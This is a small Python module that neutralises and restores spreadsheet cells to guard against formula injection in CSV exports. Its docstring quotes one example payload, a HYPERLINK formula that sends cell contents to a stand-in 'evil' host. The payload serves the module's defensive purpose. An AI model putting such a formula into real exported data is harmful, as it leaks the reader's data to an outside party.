"""Cells written for people to open in a spreadsheet program, and read back from one.

A text that starts with = + - @, a tab or a carriage return is a formula to Excel, LibreOffice and
Google Sheets once the workbook is saved as CSV or the cell is edited: a customer named
``=HYPERLINK("http://evil/?"&A1)`` would run on the reader's machine. Every text cell the studio
exports is written as a string with a leading apostrophe in that case (OWASP's advice), and the
import takes that apostrophe off again, so that export -> import gives back the same text.
"""

from __future__ import annotations

import polars as pl

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
_ESCAPED = r"^'[=+\-@\t\r]"


def neutralise(text: str) -> str:
    """``text`` as it is safe to put into an exported cell."""
    return "'" + text if text.startswith(DANGEROUS) else text


def unneutralise(column: pl.Expr) -> pl.Expr:
    """The text an exported cell stood for: the apostrophe ``neutralise`` added is removed."""
    return pl.when(column.str.contains(_ESCAPED)).then(column.str.slice(1)).otherwise(column)
